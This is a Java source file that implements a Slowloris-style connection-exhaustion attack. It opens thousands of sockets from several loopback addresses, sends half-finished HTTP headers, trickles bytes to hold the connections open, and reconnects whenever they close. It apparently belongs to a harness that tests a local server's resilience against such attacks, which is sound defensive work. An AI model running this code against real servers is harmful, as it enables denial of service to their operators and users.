package games.chalet.attack;

import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;

/**
 * More heads of requests that never end than the server has connections; they come again at once.
 */
final class HalfHeads implements Attack {

  private static final int FIRST_ADDRESS = 21;
  private static final int ADDRESSES = 5;
  private static final int CONNECTIONS = 1000;
  private static final Duration BETWEEN_BYTES = Duration.ofSeconds(1);
  private static final byte[] HALF = Http.bytes("GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ");

  @Override
  public void on(Target target) throws IOException {
    List<InetAddress> addresses = new ArrayList<>();
    for (int number = 0; number < ADDRESSES; number++) {
      addresses.add(
          InetAddress.getByAddress(new byte[] {127, 0, 0, (byte) (FIRST_ADDRESS + number)}));
    }
    try (ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor()) {
      for (int number = 0; number < ADDRESSES * CONNECTIONS; number++) {
        InetAddress from = addresses.get(number % ADDRESSES);
        threads.execute(() -> comeAgainAndAgain(target, from));
      }
    }
  }

  private static void comeAgainAndAgain(Target target, InetAddress from) {
    while (target.goesOn()) {
      try (Socket socket = target.connectFrom(from)) {
        socket.setSoTimeout((int) BETWEEN_BYTES.toMillis());
        socket.getOutputStream().write(HALF);
        while (target.goesOn() && isOpen(socket)) {
          socket.getOutputStream().write('a');
        }
      } catch (IOException e) {
        target.count("failed");
      }
    }
  }

  /** Waits for the time between two bytes, or until the server closes. */
  private static boolean isOpen(Socket socket) throws IOException {
    try {
      return socket.getInputStream().read() >= 0;
    } catch (SocketTimeoutException e) {
      return true;
    }
  }
}
